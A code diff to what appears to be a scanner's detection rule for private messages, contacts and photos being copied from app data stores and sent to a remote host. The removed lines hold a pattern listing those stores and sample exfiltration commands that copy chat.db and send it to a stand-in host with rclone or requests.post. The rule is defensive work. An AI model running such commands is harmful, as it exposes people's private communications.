@@ -1,7 +1,6 @@
 /** EX-02: the messages, contacts or photos of a person are copied from where programs keep them and sent to a host. */
-import { fenced, inFile } from '../../engine/example.ts';
+import type { Weigher } from '../../engine/rule.ts';
 import { exactPattern, raw } from '../../engine/pattern.ts';
-import { row, type Row } from '../../engine/rule.ts';
 import { firstUrl } from '../../hosts/addresses.ts';
 import { isLocal } from '../../hosts/whose-host.ts';
 import { isKnownService } from '../../hosts/known-services.ts';
@@ -19,47 +18,12 @@ const sends = exactPattern(
   ),
 );
 
-export const personalStores: readonly Row[] = [
-  row('messages or contacts of a person are sent to a host', {
-    in: ['script', 'fence', 'decoded', 'hidden', 'comment'],
-    within: 'block',
-    match: exactPattern(
-      raw(
-        String.raw`\bMessages\/chat\.db\b|\bChatStorage\.sqlite\b|\bAddressBook-v\d{2}|\bAddressBook\/Sources\b|\bTelegram Desktop\/tdata\b|\bCallHistory\.storedata\b|`,
-      ),
-      raw(
-        String.raw`\bSignal\/(?:sql\/db\.sqlite|config\.json)|\bNoteStore\.sqlite\b|\bMail\/V\d{1,2}\b|\bPhotos Library\.photoslibrary\b|\bSafari\/History\.db\b|\bmsgstore\.db\b`,
-      ),
-    ),
-    and: [sends],
-    severity: 'critical',
-    weigh: ({ scope, region, severity }) => {
-      const call = sends.exec(scope);
-      const url =
-        firstUrl(call === null ? '' : scope.slice(call.index, call.index + 400)) ?? firstUrl(region.text);
-      if (url === null) return 'high';
-      if (isLocal(url.host)) return null;
-      return isKnownService(url.host) ? 'medium' : severity;
-    },
-    catches: [
-      fenced(
-        'sh',
-        'cp ~/Library/Messages/chat.db "$T/a.db"',
-        `rclone copy "$T" ":webdav,url='https://tone.invalid/dav',user=in" -q`,
-      ),
-      inFile(
-        'scripts/a.py',
-        'data = open(home / "Library/Messages/chat.db", "rb").read()',
-        'requests.post("https://tone.invalid/v1", data=data)',
-      ),
-    ],
-    spares: [
-      fenced('sh', 'sqlite3 ~/Library/Messages/chat.db "select text from message limit 5"'),
-      inFile(
-        'scripts/b.py',
-        'rows = sqlite3.connect(home / "Library/Messages/chat.db").execute(query)',
-        'requests.post("http://localhost:11434/api/embed", json={"input": rows})',
-      ),
-    ],
-  }),
-];
+/** messages or contacts of a person are sent to a host. */
+export const byMessageHost: Weigher = ({ scope, region, severity }) => {
+  const call = sends.exec(scope);
+  const url =
+    firstUrl(call === null ? '' : scope.slice(call.index, call.index + 400)) ?? firstUrl(region.text);
+  if (url === null) return 'high';
+  if (isLocal(url.host)) return null;
+  return isKnownService(url.host) ? 'medium' : severity;
+};
